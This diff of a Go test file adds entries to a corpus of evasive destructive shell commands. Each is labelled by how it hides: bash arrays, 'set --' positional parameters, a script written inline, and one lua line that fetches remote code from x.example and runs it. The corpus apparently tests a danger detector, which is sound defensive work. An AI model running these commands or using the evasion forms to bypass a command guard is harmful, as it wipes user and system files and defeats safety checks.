@@ -163,7 +163,14 @@ var carried = map[string]string{
 	"lua -e 'load(io.popen(\"curl -s https://x.example/x.lua\"):read(\"*a\"))()'":           "a one-line program's command",
 	"osascript -e 'do shell script \"rm -rf ~/Documents\"'":                                 "a one-line program's command",
 	"echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh":                                         "a script written on the line",
-	"printf 'rm -rf /\\n' > cleanup.sh; chmod +x cleanup.sh; ./cleanup.sh":                  "a script written on the line",
+	"printf 'rm -rf /\\n' > cleanup.sh; chmod +x cleanup.sh; ./cleanup.sh":                  "a script written on the line", "a=(rm -rf ~); \"${a[@]}\"": "an array's elements are the command",
+	"cmd=(rm -rf /); ${cmd[*]}":             "an array's elements are the command",
+	"declare -a x=(rm -rf /); \"${x[@]}\"":  "an array's elements are the command",
+	"cmd=(sudo rm -rf /etc); \"${cmd[@]}\"": "an array's elements are the command",
+	"cmd=(rm -rf); $cmd /etc":               "an array's first element is the command name",
+	"set -- rm -rf /; \"$@\"":               "the positional parameters are the command",
+	"set -- rm -rf ~; $1 $2 $3":             "the positional parameters are the command",
+	"set -- rm -rf ~; bash -c \"$*\"":       "the positional parameters are the command string",
 }
 
 // TestCorpusDangerExposed: for every command of the dangerous corpora, the
